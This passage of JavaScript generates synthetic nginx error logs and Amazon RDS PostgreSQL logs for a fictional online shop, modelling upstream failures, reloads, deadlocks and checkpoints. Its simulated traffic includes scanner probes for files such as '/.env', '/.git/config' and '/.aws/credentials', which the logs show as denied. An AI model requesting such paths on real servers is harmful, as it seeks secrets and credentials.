      s += `, referrer: "https://shop.example.com/${r.chance(0.5) ? '' : `products/${r.pick(SLUGS)}`}"`
    return s
  }
  const apiReq = (c, pred) => {
    for (;;) {
      const x = shopRequest(c.r)
      if (x.up !== 'none' && (!pred || pred(x))) return x
    }
  }
  const slowReq = (c) =>
    apiReq(
      c,
      (x) =>
        x.m === 'POST' || x.p.startsWith('/api/v1/search') || x.p.startsWith('/api/v1/products?')
    )
  const single = (k, build) => (c) => w(c, k, worker(c), build(c))
  const simple = (k, text, pick = apiReq) =>
    single(k, (c) => {
      const x = pick(c)
      return `*${cid(c)} ${text}${ctx(c, x)}`
    })
  function timeoutRead(c) {
    const x = slowReq(c)
    const pid = worker(c)
    const ua = upstreamAddr(c.r)
    w(
      c,
      'up_timeout_read',
      pid,
      `*${cid(c)} upstream timed out (110: Connection timed out) while reading response header from upstream${ctx(c, x, { upstreamAddr: ua })}`
    )
    if (c.r.chance(0.45))
      w(
        c,
        'up_disabled',
        pid,
        `*${c.S.cid} upstream server temporarily disabled while reading response header from upstream${ctx(c, x, { upstreamAddr: ua })}`
      )
  }
  function noLive(c) {
    for (let i = c.r.int(1, 4); i > 0; i--) {
      const x = apiReq(c)
      w(
        c,
        'no_live',
        worker(c),
        `*${cid(c)} no live upstreams while connecting to upstream${ctx(c, x, { upstreamAddr: 'orders_api' })}`
      )
    }
  }
  function limiting(c) {
    const client = clientIp(c.r)
    for (let i = c.r.int(1, 5); i > 0; i--) {
      const x = apiReq(c, (y) => y.p.startsWith('/api'))
      w(
        c,
        'limiting',
        worker(c),
        `*${cid(c)} limiting requests, excess: ${f3(10 + c.r.next() * 30)} by zone "${x.p.includes('login') ? 'login' : 'api'}"${ctx(c, x, { client, upstream: false })}`
      )
    }
  }
  function openFailed(c) {
    const r = c.r
    const p = r.wpick([
      [30, '/favicon.ico'],
      [15, '/apple-touch-icon.png'],
      [10, '/apple-touch-icon-precomposed.png'],
      [12, '/wp-login.php'],
      [8, '/.env'],
      [6, '/robots.txt'],
      [6, '/sitemap.xml'],
      [5, `/assets/js/app.${r.hex(8)}.js.map`],
      [4, '/ads.txt']
    ])
    const x = { req: `GET ${p} HTTP/1.1`, p, up: 'none' }
    const scan = ['/wp-login.php', '/.env', '/ads.txt', '/sitemap.xml'].includes(p)
    w(
      c,
      'open_failed',
      worker(c),
      `*${cid(c)} open() "/usr/share/nginx/html${p}" failed (2: No such file or directory)${ctx(c, x, { server: 'shop.example.com', refP: scan ? 0 : 0.5 })}`
    )
  }
  function startup(c) {
    w(
      c,
      'types_hash',
      1,
      'could not build optimal types_hash, you should increase either types_hash_max_size: 1024 or types_hash_bucket_size: 64; ignoring types_hash_bucket_size'
    )
    w(c, 'conflicting', 1, 'conflicting server name "shop.example.com" on 0.0.0.0:80, ignored')
    w(c, 'epoll', 1, 'using the "epoll" event method')
    w(c, 'version', 1, 'nginx/1.27.4')
    w(c, 'built', 1, 'built by gcc 12.2.0 (Debian 12.2.0-14)')
    w(c, 'os', 1, 'OS: Linux 5.10.234-225.910.amzn2.x86_64')
    w(c, 'rlimit', 1, 'getrlimit(RLIMIT_NOFILE): 65535:65535')
    w(c, 'start_workers', 1, 'start worker processes')
    c.S.workers = [c.S.nextPid, c.S.nextPid + 1]
    c.S.nextPid += 2
    for (const p of c.S.workers) w(c, 'start_worker', 1, `start worker process ${p}`)
  }
  function reload(c) {
    w(c, 'sig_reconf', 1, `signal 1 (SIGHUP) received from ${c.r.int(60, 90)}, reconfiguring`)
    w(c, 'reconf', 1, 'reconfiguring')
    w(c, 'epoll', 1, 'using the "epoll" event method')
    w(c, 'start_workers', 1, 'start worker processes')
    const old = c.S.workers
    c.S.workers = [c.S.nextPid, c.S.nextPid + 1]
    c.S.nextPid += 2
    for (const p of c.S.workers) w(c, 'start_worker', 1, `start worker process ${p}`)
    for (const p of old) w(c, 'graceful', p, 'gracefully shutting down')
    for (const p of old) {
      w(c, 'exiting', p, 'exiting')
      w(c, 'exit', p, 'exit')
    }
    for (const p of old) {
      w(c, 'sig_child', 1, `signal 17 (SIGCHLD) received from ${p}`)
      w(c, 'exited_code', 1, `worker process ${p} exited with code 0`)
    }
  }
  function badReload(c) {
    w(c, 'sig_reconf', 1, `signal 1 (SIGHUP) received from ${c.r.int(60, 90)}, reconfiguring`)
    w(c, 'reconf', 1, 'reconfiguring')
    w(
      c,
      'emerg_host',
      1,
      'host not found in upstream "orders-api.internal:8080" in /etc/nginx/conf.d/default.conf:27'
    )
  }
  function oom(c) {
    const dead = c.S.workers[1]
    w(c, 'sig_child', 1, `signal 17 (SIGCHLD) received from ${dead}`)
    w(c, 'exited_signal', 1, `worker process ${dead} exited on signal 9`)
    c.S.workers = [c.S.workers[0], c.S.nextPid++]
    w(c, 'start_worker', 1, `start worker process ${c.S.workers[1]}`)
  }
  function shutdownRestart(c) {
    w(c, 'sig_shutdown', 1, 'signal 3 (SIGQUIT) received from 1, shutting down')
    for (const p of c.S.workers) w(c, 'graceful', p, 'gracefully shutting down')
    for (const p of c.S.workers) {
      w(c, 'exiting', p, 'exiting')
      w(c, 'exit', p, 'exit')
    }
    for (const p of c.S.workers) {
      w(c, 'sig_child', 1, `signal 17 (SIGCHLD) received from ${p}`)
      w(c, 'exited_code', 1, `worker process ${p} exited with code 0`)
    }
    w(c, 'exit', 1, 'exit')
    c.tick(9000)
    c.S.nextPid = 29
    startup(c)
  }
  const SSL_ERR = [
    'error:0A00006C:SSL routines::bad key share',
    'error:0A000102:SSL routines::unsupported protocol',
    'error:0A0000C1:SSL routines::no shared cipher',
    'error:0A00010B:SSL routines::wrong version number'
  ]
  const listener = (r, tls) =>
    r.chance(0.2) ? `[::]:${tls ? 443 : 80}` : `0.0.0.0:${tls ? 443 : 80}`
  return {
    name: 'nginx-error',
    start: Date.UTC(2025, 2, 11, 9, 0, 0),
    gap: (r) => r.int(200, 9000),
    intra: 3,
    templates: T.map(([k, , tpl]) => [k, tpl]),
    init: (c) => {
      c.S.cid = 1000 + c.r.int(0, 500)
      c.S.nextPid = 29
      c.S.workers = [29, 30]
    },
    filler: openFailed,
    episodes: [
      { at: [0], run: startup },
      { at: [0.38], run: reload },
      { at: [0.63], run: badReload },
      { at: [0.88], run: shutdownRestart },
      { n: 1, from: 0.45, to: 0.6, run: oom },
      { w: 40, run: timeoutRead },
      {
        w: 5,
        run: simple(
          'up_timeout_conn',
          'upstream timed out (110: Connection timed out) while connecting to upstream',
          slowReq
        )
      },
      {
        w: 22,
        run: simple(
          'conn_refused',
          'connect() failed (111: Connection refused) while connecting to upstream'
        )
      },
      {
        n: 3,
        run: single('net_unreach', (c) => {
          const x = apiReq(c)
          const a = `[2600:1f18:4a3:6f0${c.r.int(0, 2)}:${h4(c.r)}:${h4(c.r)}:${h4(c.r)}:${h4(c.r)}]:8080`
          return `*${cid(c)} connect() to ${a} failed (101: Network is unreachable) while connecting to upstream${ctx(c, x, { upstreamAddr: a })}`
        })
      },
      {
        w: 18,
        run: simple(
          'up_closed',
          'upstream prematurely closed connection while reading response header from upstream'
        )
      },
      {
        w: 14,
        run: simple(
          'up_reset',
          'recv() failed (104: Connection reset by peer) while reading response header from upstream'
        )
      },
      { w: 5, run: noLive },
      {
        w: 3,
        run: simple(
          'big_header',
          'upstream sent too big header while reading response header from upstream'
        )
      },
      {
        w: 18,
        run: single('buf_up', (c) => {
          const x = apiReq(c, (y) => y.m === 'GET' && y.b > 8000)
          return `*${cid(c)} an upstream response is buffered to a temporary file /var/cache/nginx/proxy_temp/${c.r.int(0, 9)}/${pad(c.r.int(0, 99))}/00000${c.r.int(10000, 99999)} while reading upstream${ctx(c, x)}`
        })
      },
      {
        w: 10,
        run: single('buf_client', (c) => {
          const x = apiReq(c, (y) => y.m === 'POST')
          return `*${cid(c)} a client request body is buffered to a temporary file /var/cache/nginx/client_temp/00000${c.r.int(10000, 99999)}${ctx(c, x)}`
        })
      },
      {
        w: 5,
        run: single('too_large', (c) => {
          const x = {
            req: 'POST /api/v1/reviews/photos HTTP/1.1',
            p: '/api/v1/reviews/photos',
            up: 'ok'
          }
          return `*${cid(c)} client intended to send too large body: ${c.r.int(10485761, 31457280)} bytes${ctx(c, x, { upstream: false })}`
        })
      },
      { w: 35, run: openFailed },
      {
        w: 5,
        run: single('not_found', (c) => {
          const p = c.r.pick(['/admin/', '/backup/', '/old/', '/test/'])
          const x = { req: `GET ${p} HTTP/1.1`, p, up: 'none' }
          return `*${cid(c)} "/usr/share/nginx/html${p}index.html" is not found (2: No such file or directory)${ctx(c, x, { server: 'shop.example.com' })}`
        })
      },
      {
        w: 2,
        run: single('dir_forbidden', (c) => {
          const p = c.r.pick(['/assets/', '/images/', '/assets/js/'])
          const x = { req: `GET ${p} HTTP/1.1`, p, up: 'none' }
          return `*${cid(c)} directory index of "/usr/share/nginx/html${p}" is forbidden${ctx(c, x, { server: 'shop.example.com' })}`
        })
      },
      {
        w: 8,
        run: single('forbidden', (c) => {
          const p = c.r.pick([
            '/.git/config',
            '/.htaccess',
            '/admin/metrics',
            '/nginx_status',
            '/.aws/credentials'
          ])
          const x = { req: `GET ${p} HTTP/1.1`, p, up: 'none' }
          return `*${cid(c)} access forbidden by rule${ctx(c, x)}`
        })
      },
      { w: 12, run: limiting },
      {
        w: 6,
        run: single('delaying', (c) => {
          const x = apiReq(c)
          return `*${cid(c)} delaying request, excess: ${f3(c.r.next() * 5)}, by zone "api"${ctx(c, x, { upstream: false })}`
        })
      },
      {
        n: 2,
        run: single('limit_conn', (c) => {
          const x = {
            req: 'GET /api/v1/exports/orders.csv HTTP/1.1',
            p: '/api/v1/exports/orders.csv',
            up: 'none'
          }
          return `*${cid(c)} limiting connections by zone "perip"${ctx(c, x)}`
        })
      },
      {
        w: 6,
        run: single(
          'ssl_hs',
          (c) =>
            `*${cid(c)} SSL_do_handshake() failed (SSL: ${c.r.pick(SSL_ERR)}) while SSL handshaking, client: ${clientIp(c.r)}, server: ${listener(c.r, true)}`
        )
      },
      {
        w: 10,
        run: single(
          'client_timeout',
          (c) =>
            `*${cid(c)} client timed out (110: Connection timed out) while waiting for request, client: ${clientIp(c.r)}, server: ${listener(c.r, c.r.chance(0.5))}`
        )
      },
      {
        w: 14,
        run: single(
          'keepalive',
          (c) => `*${cid(c)} client ${clientIp(c.r)} closed keepalive connection`
        )
      },
      {
        w: 4,
        run: single(
          'keepalive_reset',
          (c) =>
            `*${cid(c)} client ${clientIp(c.r)} closed keepalive connection (104: Connection reset by peer)`
        )
      },
      {
        w: 6,
        run: simple(
          'client_prem',
          'epoll_wait() reported that client prematurely closed connection, so upstream connection is closed too while sending request to upstream',
          slowReq
        )
      },
      { w: 3, run: simple('writev', 'writev() failed (32: Broken pipe) while sending to client') },
      {
        n: 2,
        run: single(
          'resolve',
          (c) =>
            `*${cid(c)} orders-api.internal could not be resolved (${c.r.pick(['3: Host not found', '110: Operation timed out'])})`
        )
      }
    ]
  }
}

// ---------------------------------------------------------------------------------------------
// postgresql: Amazon RDS for PostgreSQL 16, log group /aws/rds/instance/<db>/postgresql, RDS's
// log_line_prefix '%t:%r:%u@%d:[%p]:', log_min_duration_statement=200ms, log_connections and
// log_disconnections on, log_lock_waits on.

function pgQuery(r, db = 'orders') {
  const cust = r.int(10000, 99999)
  const oid = r.int(900000, 999999)
  const sku = `SKU-${r.int(1000, 9999)}`
  const byDb = {
    orders: [
      [14, 'ordersByCustomer'],
      [8, 'ordersByStatus'],
      [10, 'reserve'],
      [8, 'insertItems'],
      [3, 'sessions'],
      [3, 'commit'],
      [5, 'skus'],
      [4, 'orderById'],
      [3, 'updateStatus']
    ],
    payments: [
      [10, 'intentByOrder'],
      [8, 'capture'],
      [6, 'ledger'],
      [4, 'audit'],
      [3, 'commit']
    ],
    analytics: [
      [6, 'failedPayments'],
      [6, 'hourly'],
      [4, 'topCustomers']
    ]
  }
  const q = r.wpick(byDb[db] ?? byDb.orders)
  switch (q) {
    case 'ordersByCustomer':
      return {
        sql: `SELECT o.id, o.status, o.total_cents, o.created_at FROM orders o WHERE o.customer_id = ${cust} ORDER BY o.created_at DESC LIMIT 20`,
        psql: 'SELECT o.id, o.status, o.total_cents, o.created_at FROM orders o WHERE o.customer_id = $1 ORDER BY o.created_at DESC LIMIT 20',
        params: `$1 = '${cust}'`
      }
    case 'ordersByStatus': {
      const st = r.sample(['pending', 'paid', 'packed', 'shipped'], r.int(1, 3))
      const d = pad(r.int(1, 10))
      return {
        sql: `SELECT o.id, o.status FROM orders o WHERE o.customer_id = ${cust} AND o.status IN (${st.map((s) => `'${s}'`).join(', ')}) AND o.created_at >= '2025-03-${d} 00:00:00+00'`,
        psql: `SELECT o.id, o.status FROM orders o WHERE o.customer_id = $1 AND o.status = ANY($2) AND o.created_at >= $3`,
        params: `$1 = '${cust}', $2 = '{${st.join(',')}}', $3 = '2025-03-${d} 00:00:00+00'`
      }
    }
    case 'reserve': {
      const n = r.int(1, 4)
      const wh = r.int(1, 6)
      return {
        sql: `UPDATE inventory SET reserved = reserved + ${n}, updated_at = now() WHERE sku = '${sku}' AND warehouse_id = ${wh}`,
        psql: 'UPDATE inventory SET reserved = reserved + $1, updated_at = now() WHERE sku = $2 AND warehouse_id = $3',
        params: `$1 = '${n}', $2 = '${sku}', $3 = '${wh}'`
      }
    }
    case 'insertItems': {
      const k = r.wpick([
        [50, 1],
        [30, 2],
        [15, 3],
        [5, 5]
      ])
      const vals = []
      const pv = []
      const ps = []
      for (let i = 0; i < k; i++) {
        const s = `SKU-${r.int(1000, 9999)}`
        const qty = r.int(1, 3)
        const pr = r.int(499, 15999)
        vals.push(`(${oid}, '${s}', ${qty}, ${pr})`)
        pv.push(`($${4 * i + 1}, $${4 * i + 2}, $${4 * i + 3}, $${4 * i + 4})`)
        ps.push(
          `$${4 * i + 1} = '${oid}', $${4 * i + 2} = '${s}', $${4 * i + 3} = '${qty}', $${4 * i + 4} = '${pr}'`
        )
      }
      return {
        sql: `INSERT INTO order_items (order_id, sku, qty, price_cents) VALUES ${vals.join(', ')}`,
        psql: `INSERT INTO order_items (order_id, sku, qty, price_cents) VALUES ${pv.join(', ')}`,
        params: ps.join(', ')
      }
    }
    case 'intentByOrder':
      return {
        sql: `SELECT id, status, amount_cents, currency FROM payment_intents WHERE order_id = ${oid} ORDER BY created_at DESC LIMIT 1`,
        psql: 'SELECT id, status, amount_cents, currency FROM payment_intents WHERE order_id = $1 ORDER BY created_at DESC LIMIT 1',
        params: `$1 = '${oid}'`
      }
    case 'capture': {
      const pi = `pi_3Q${r.alnum(22, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789')}`
      return {
        sql: `UPDATE payment_intents SET status = 'captured', captured_at = now() WHERE id = '${pi}' AND status = 'authorized'`,
        psql: 'UPDATE payment_intents SET status = $1, captured_at = now() WHERE id = $2 AND status = $3',
        params: `$1 = 'captured', $2 = '${pi}', $3 = 'authorized'`
      }
    }
    case 'ledger': {
      const k = r.wpick([
        [70, 2],
        [30, 4]
      ])
      const vals = []
      const pv = []
      const ps = []
      for (let i = 0; i < k; i++) {
        const amt = r.int(100, 90000) * (i % 2 ? -1 : 1)
        const acct = r.pick(['cash', 'receivables', 'fees', 'revenue'])
        vals.push(`(${oid}, '${acct}', ${amt}, 'EUR')`)
        pv.push(`($${3 * i + 1}, $${3 * i + 2}, $${3 * i + 3}, 'EUR')`)
        ps.push(`$${3 * i + 1} = '${oid}', $${3 * i + 2} = '${acct}', $${3 * i + 3} = '${amt}'`)
      }
      return {
        sql: `INSERT INTO ledger_entries (order_id, account, amount_cents, currency) VALUES ${vals.join(', ')}`,
        psql: `INSERT INTO ledger_entries (order_id, account, amount_cents, currency) VALUES ${pv.join(', ')}`,
        params: ps.join(', ')
      }
    }
    case 'topCustomers': {
      const m = r.int(1, 3)
      return {
        sql: `SELECT c.id, c.email, count(o.id) AS orders, sum(o.total_cents) AS spent FROM customers c LEFT JOIN orders o ON o.customer_id = c.id WHERE o.created_at >= '2025-0${m}-01' GROUP BY c.id, c.email ORDER BY spent DESC LIMIT 100`,
        psql: 'SELECT c.id, c.email, count(o.id) AS orders, sum(o.total_cents) AS spent FROM customers c LEFT JOIN orders o ON o.customer_id = c.id WHERE o.created_at >= $1 GROUP BY c.id, c.email ORDER BY spent DESC LIMIT 100',
        params: `$1 = '2025-0${m}-01'`
      }
    }
    case 'failedPayments':
      return {
        sql: "SELECT p.id, p.amount_cents, p.currency FROM payments p JOIN orders o ON o.id = p.order_id WHERE p.status = 'failed' AND p.updated_at > now() - interval '15 minutes'",
        psql: 'SELECT p.id, p.amount_cents, p.currency FROM payments p JOIN orders o ON o.id = p.order_id WHERE p.status = $1 AND p.updated_at > now() - $2::interval',
        params: "$1 = 'failed', $2 = '15 minutes'"
      }
    case 'sessions':
      return {
        sql: "DELETE FROM sessions WHERE expires_at < now() - interval '7 days'",
        psql: 'DELETE FROM sessions WHERE expires_at < now() - $1::interval',
        params: "$1 = '7 days'"
      }
    case 'hourly':
      return {
        sql: "SELECT date_trunc('hour', created_at) AS hour, count(*), sum(total_cents) FROM orders WHERE created_at >= now() - interval '24 hours' GROUP BY 1 ORDER BY 1",
        psql: "SELECT date_trunc('hour', created_at) AS hour, count(*), sum(total_cents) FROM orders WHERE created_at >= now() - $1::interval GROUP BY 1 ORDER BY 1",
        params: "$1 = '24 hours'"
      }
    case 'audit':
      return {
        sql: `INSERT INTO audit_log (level, source, message) VALUES ('ERROR', 'checkout', 'card declined for order ${oid}: insufficient funds')`,
        psql: 'INSERT INTO audit_log (level, source, message) VALUES ($1, $2, $3)',
        params: `$1 = 'ERROR', $2 = 'checkout', $3 = 'card declined for order ${oid}: insufficient funds'`
      }
    case 'commit':
      return { sql: 'COMMIT', psql: 'COMMIT', params: '' }
    case 'skus': {
      const l = []
      for (let i = r.int(1, 6); i > 0; i--) l.push(`SKU-${r.int(1000, 9999)}`)
      return {
        sql: `SELECT s.sku, s.name, s.price_cents FROM skus s WHERE s.sku = ANY('{${l.join(',')}}')`,
        psql: 'SELECT s.sku, s.name, s.price_cents FROM skus s WHERE s.sku = ANY($1)',
        params: `$1 = '{${l.join(',')}}'`
      }
    }
    case 'orderById':
      return {
        sql: `SELECT * FROM orders WHERE id = ${oid} FOR UPDATE`,
        psql: 'SELECT * FROM orders WHERE id = $1 FOR UPDATE',
        params: `$1 = '${oid}'`
      }
    default: {
      const st = r.pick(['paid', 'packed', 'shipped', 'cancelled'])
      return {
        sql: `UPDATE orders SET status = '${st}', updated_at = now() WHERE id = ${oid}`,
        psql: 'UPDATE orders SET status = $1, updated_at = now() WHERE id = $2',
        params: `$1 = '${st}', $2 = '${oid}'`
      }
    }
  }
}

function postgresql() {
  const T = [
    ['stmt', 'duration: <*> ms  statement: <*>'],
    ['execute', 'duration: <*> ms  execute <*>: <*>'],
    ['parse', 'duration: <*> ms  parse <*>: <*>'],
    ['bind', 'duration: <*> ms  bind <*>: <*>'],
    ['detail_params', 'DETAIL:  parameters: <*>'],
    ['statement', 'STATEMENT:  <*>'],
    ['conn_recv', 'connection received: host=<*> port=<*>'],
    ['conn_auth', 'connection authorized: user=<*> database=<*>'],
    ['disconn', 'disconnection: session time: <*> user=<*> database=<*> host=<*>'],
    ['recv_reset', 'could not receive data from client: Connection reset by peer'],
    ['eof_tx', 'unexpected EOF on client connection with an open transaction'],
    ['send_pipe', 'could not send data to client: Broken pipe'],
    ['conn_lost', 'connection to client lost'],
    ['ckpt_start', 'checkpoint starting: <*>'],
    [
      'ckpt_done',
      'checkpoint complete: wrote <*> buffers (<*>%); <*> WAL file(s) added, <*> removed, <*> recycled; write=<*> s, sync=<*> s, total=<*> s; sync files=<*>, longest=<*> s, average=<*> s; distance=<*> kB, estimate=<*> kB; lsn=<*>, redo lsn=<*>'
    ],
    ['skip_vacuum', 'skipping vacuum of "<*>" --- lock not available'],
    ['dup_key', 'duplicate key value violates unique constraint "<*>"'],
    ['dup_detail', 'DETAIL:  Key (<*>)=(<*>) already exists.'],
    ['stmt_timeout', 'canceling statement due to statement timeout'],
    ['user_cancel', 'canceling statement due to user request'],
    ['deadlock', 'deadlock detected'],
    [
      'deadlock_detail',
      'DETAIL:  Process <*> waits for ShareLock on transaction <*>; blocked by process <*>.'
    ],
    [
      'deadlock_cont',
      'Process <*> waits for ShareLock on transaction <*>; blocked by process <*>.'
    ],
    ['hint_server_log', 'HINT:  See server log for query details.'],
    ['ctx_updating', 'CONTEXT:  while updating tuple (<*>) in relation "<*>"'],
    ['ctx_locking', 'CONTEXT:  while locking tuple (<*>) in relation "<*>"'],
    ['still_waiting', 'process <*> still waiting for ShareLock on transaction <*> after <*> ms'],
    ['lock_detail', 'DETAIL:  Process holding the lock: <*>. Wait queue: <*>.'],
    ['acquired', 'process <*> acquired ShareLock on transaction <*> after <*> ms'],
    [
      'waiting_rel',
      'process <*> still waiting for AccessExclusiveLock on relation <*> of database <*> after <*> ms'
    ],
    ['serialize', 'could not serialize access due to concurrent update'],
    ['not_null', 'null value in column "<*>" of relation "<*>" violates not-null constraint'],
    ['failing_row', 'DETAIL:  Failing row contains (<*>).'],
    ['fk', 'insert or update on table "<*>" violates foreign key constraint "<*>"'],
    ['fk_detail', 'DETAIL:  Key (<*>)=(<*>) is not present in table "<*>".'],
    ['no_relation', 'relation "<*>" does not exist at character <*>'],
    ['no_column', 'column "<*>" does not exist at character <*>'],
    ['hint_column', 'HINT:  Perhaps you meant to reference the column "<*>".'],
    ['syntax', 'syntax error at or near "<*>" at character <*>'],
    [
      'aborted_tx',
      'current transaction is aborted, commands ignored until end of transaction block'
    ],
    ['no_tx', 'there is no transaction in progress'],
    ['pw_failed', 'password authentication failed for user "<*>"'],
    ['pw_detail', 'DETAIL:  Connection matched file "<*>" line <*>: "<*>"'],
    ['no_hba', 'no pg_hba.conf entry for host "<*>", user "<*>", database "<*>", <*>'],
    ['slots', 'remaining connection slots are reserved for roles with the SUPERUSER attribute'],
    ['idle_tx', 'terminating connection due to idle-in-transaction timeout'],
    ['no_db', 'database "<*>" does not exist'],
    ['admin_term', 'terminating connection due to administrator command'],
    ['temp_file', 'temporary file: path "<*>", size <*>'],
    ['sighup', 'received SIGHUP, reloading configuration files'],
    ['param_changed', 'parameter "<*>" changed to "<*>"']
  ]
  const SEV = { LOG: 'info', WARNING: 'warning', ERROR: 'error', FATAL: 'critical' }
  const APPS = [
    [
      55,
      {
        user: 'orders_app',
        db: 'orders',
        app: 'PostgreSQL JDBC Driver',
        ssl: true,
        prep: 'jdbc',
        net: [10, 11]
      }
    ],
    [25, { user: 'payments_app', db: 'payments', app: '', ssl: true, prep: 'node', net: [12, 13] }],
    [
      10,
      {
        user: 'reporting',
        db: 'analytics',
        app: 'Metabase v0.52.7',
        ssl: false,
        prep: 'jdbc',
        net: [20, 20]
      }
    ],
    [6, { user: 'migrator', db: 'orders', app: 'flyway', ssl: true, prep: 'jdbc', net: [10, 11] }],
    [
      4,
      { user: 'rdsadmin', db: 'rdsadmin', app: 'rdsadmin', ssl: false, prep: 'none', local: true }
    ]
  ]
  const newSession = (c, spec) => {
    const r = c.r
    const a = spec ?? r.wpick(APPS)
    return {
      ...a,
      ip: a.local ? '[local]' : vpcIp(r, a.net),
      port: r.int(32768, 60999),
      pid: r.int(1200, 32000),
      start: c.t - r.int(1000, 1800000)
    }
  }
  const prefix = (c, s, known = true) =>
    `${ymdHms(c.t)} UTC:${s.local ? '[local]' : `${s.ip}(${s.port})`}:${known ? `${s.user}@${s.db}` : '[unknown]@[unknown]'}:[${s.pid}]:`
  const bg = (c, pid, db = '') => `${ymdHms(c.t)} UTC::@${db}:[${pid}]:`
  const sev = (c, k, S, head, msg) => c.out(k, SEV[S], `${head}${S}:  `, msg)
  const cont = (c, k, S, head, msg) => c.out(k, SEV[S], head, msg)
  const session = (c, pred) => {
    const l = c.S.pool.filter((s) => s.prep !== 'none' && (!pred || pred(s)))
    return l.length ? c.r.pick(l) : newSession(c, APPS[0][1])
  }
  const ms = (c, med, tail) => f3(200 + c.r.dur(med, tail))
  function stmt(c) {
    const s = session(c)
    const q = pgQuery(c.r, s.db)
    sev(c, 'stmt', 'LOG', prefix(c, s), `duration: ${ms(c, 300, 0.1)} ms  statement: ${q.sql}`)
  }
  function execute(c) {
    const s = session(c, (x) => x.prep === 'jdbc' || x.prep === 'node')
    const q = pgQuery(c.r, s.db)
    const name = s.prep === 'jdbc' ? `S_${c.r.int(1, 14)}` : '<unnamed>'
    sev(
      c,
      'execute',
      'LOG',
      prefix(c, s),
      `duration: ${ms(c, 250, 0.1)} ms  execute ${name}: ${q.psql}`
    )
    if (q.params) cont(c, 'detail_params', 'LOG', prefix(c, s), `DETAIL:  parameters: ${q.params}`)
  }
  function parseBind(kind) {
    return (c) => {
      const s = session(c, (x) => x.prep === 'jdbc')
      const q = pgQuery(c.r, s.db)
      const name = `S_${c.r.int(1, 14)}`
      sev(c, kind, 'LOG', prefix(c, s), `duration: ${ms(c, 120)} ms  ${kind} ${name}: ${q.psql}`)
      if (kind === 'bind' && q.params)
        cont(c, 'detail_params', 'LOG', prefix(c, s), `DETAIL:  parameters: ${q.params}`)
    }
  }
  function connect(c) {
    const s = newSession(c)
    s.start = c.t
    sev(
      c,
      'conn_recv',
      'LOG',
      prefix(c, s, false),
      `connection received: host=${s.ip} port=${s.port}`.replace(' port=undefined', '')
    )
    let m = `connection authorized: user=${s.user} database=${s.db}`
    if (s.app) m += ` application_name=${s.app}`
    if (s.ssl) m += ` SSL enabled (protocol=TLSv1.3, cipher=TLS_AES_256_GCM_SHA384, bits=256)`
    sev(c, 'conn_auth', 'LOG', prefix(c, s), m)
    c.S.pool.push(s)
  }
  function disconnect(c) {
    if (c.S.pool.length < 4) return connect(c)
    const i = c.r.int(0, c.S.pool.length - 1)
    const s = c.S.pool[i]
    c.S.pool.splice(i, 1)
    const d = Math.max(1, c.t - s.start)
    const h = Math.floor(d / 3600000)
    const mi = Math.floor(d / 60000) % 60
    const se = Math.floor(d / 1000) % 60
    const host = s.local ? 'host=[local]' : `host=${s.ip} port=${s.port}`
    sev(
      c,
      'disconn',
      'LOG',
      prefix(c, s),
      `disconnection: session time: ${h}:${pad(mi)}:${pad(se)}.${pad(d % 1000, 3)} user=${s.user} database=${s.db} ${host}`
    )
  }
  function withStatement(k, S, text, extra) {
    return (c) => {
      const s = session(c, (x) => x.user !== 'reporting')
      const q = pgQuery(c.r, s.db)
      const h = prefix(c, s)
      sev(c, k, S, h, typeof text === 'function' ? text(c, q) : text)
      extra?.(c, h, q, s)
      cont(c, 'statement', S, h, `STATEMENT:  ${q.sql}`)
    }
  }
  function ckpt(c) {
    const pid = c.S.ckptPid
    sev(
      c,
      'ckpt_start',
      'LOG',
      bg(c, pid),
      `checkpoint starting: ${c.r.wpick([
        [85, 'time'],
        [15, 'wal']
      ])}`
    )
    const r = c.r
    const buf = r.int(800, 9000)
    const w = r.int(60, 270) + r.next()
    c.tick(w * 1000)
    const sy = r.next() * 0.05
    c.S.lsn += r.int(0x100000, 0x4000000)
    const lsn = `${Math.floor(c.S.lsn / 0x100000000)
      .toString(16)
      .toUpperCase()}/${(c.S.lsn % 0x100000000).toString(16).toUpperCase().padStart(8, '0')}`
    const redo = `${Math.floor(c.S.lsn / 0x100000000)
      .toString(16)
      .toUpperCase()}/${((c.S.lsn - r.int(0x1000, 0xfffff)) % 0x100000000).toString(16).toUpperCase().padStart(8, '0')}`
    const dist = r.int(30000, 400000)
    sev(
      c,
      'ckpt_done',
      'LOG',
      bg(c, pid),
      `checkpoint complete: wrote ${buf} buffers (${(buf / 163.84).toFixed(1)}%); 0 WAL file(s) added, 0 removed, ${r.int(1, 12)} recycled; write=${f3(w)} s, sync=${f3(sy)} s, total=${f3(w + sy + 0.01)} s; sync files=${r.int(20, 90)}, longest=${f3(sy / 2)} s, average=${f3(sy / 40)} s; distance=${dist} kB, estimate=${dist + r.int(0, 90000)} kB; lsn=${lsn}, redo lsn=${redo}`
    )
  }
  const tuple = (r) => `${r.int(0, 4000)},${r.int(1, 90)}`
  const xid = (c) => c.S.xid + c.r.int(0, 4000)
  function deadlock(c) {
    const s = session(c, (x) => x.user === 'orders_app')
    const other = c.r.int(1200, 32000)
    const x1 = xid(c)
    const x2 = xid(c)
    const h = prefix(c, s)
    const sku = `SKU-${c.r.int(1000, 9999)}`
    sev(c, 'deadlock', 'ERROR', h, 'deadlock detected')
    cont(
      c,
      'deadlock_detail',
      'ERROR',
      h,
      `DETAIL:  Process ${s.pid} waits for ShareLock on transaction ${x1}; blocked by process ${other}.`
    )
    cont(
      c,
      'deadlock_cont',
      'ERROR',
      '\t',
      `Process ${other} waits for ShareLock on transaction ${x2}; blocked by process ${s.pid}.`
    )
    cont(c, 'hint_server_log', 'ERROR', h, 'HINT:  See server log for query details.')
    cont(
      c,
      'ctx_updating',
      'ERROR',
      h,
      `CONTEXT:  while updating tuple (${tuple(c.r)}) in relation "inventory"`
    )
    cont(
      c,
      'statement',
      'ERROR',
      h,
      `STATEMENT:  UPDATE inventory SET reserved = reserved + 1, updated_at = now() WHERE sku = '${sku}' AND warehouse_id = ${c.r.int(1, 6)}`
    )
  }
  function lockWait(c) {
    const s = session(c, (x) => x.user === 'orders_app')
    const h = prefix(c, s)
    const holder = c.r.int(1200, 32000)
    const x = xid(c)
    const tu = tuple(c.r)
    const oid = c.r.int(900000, 999999)
    const sql = `UPDATE orders SET status = 'paid', updated_at = now() WHERE id = ${oid}`
    sev(
      c,
      'still_waiting',
      'LOG',
      h,
      `process ${s.pid} still waiting for ShareLock on transaction ${x} after 1000.${pad(c.r.int(30, 999), 3)} ms`
    )
    cont(
      c,
      'lock_detail',
      'LOG',
      h,
